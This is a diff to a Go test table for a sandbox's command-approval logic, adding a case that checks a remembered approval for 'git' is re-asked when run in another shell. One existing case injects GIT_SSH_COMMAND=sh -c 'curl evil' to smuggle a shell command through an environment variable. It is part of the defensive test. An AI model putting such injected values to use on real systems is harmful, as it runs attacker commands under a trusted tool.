@@ -209,6 +209,7 @@ func TestAlways(t *testing.T) {
 			changeProfile(l, func(p *sandbox.Profile) { p.Policy = asking{hash: "two"} })
 		}, asked: true},
 		"with a variable":                    {next: sandbox.Command{Script: "git", Session: "dev", Env: []string{"GIT_SSH_COMMAND=sh -c 'curl evil'"}}, asked: true},
+		"in another shell":                   {next: sandbox.Command{Script: "git", Session: "dev", Shell: sandbox.ShellBash}, asked: true},
 		"with stdin":                         {next: sandbox.Command{Script: "git", Session: "dev", Stdin: strings.NewReader("")}, asked: true},
 		"in another directory":               {next: sandbox.Command{Script: "git", Session: "dev", Dir: "/tmp"}, asked: true},
 		"with another profile":               {next: sandbox.Command{Script: "git", Session: "dev", Profile: "p"}, with: func(_ *testing.T, _ *stage, l *local.Local) { l.Profiles["p"] = l.Profiles["default"] }, asked: true},
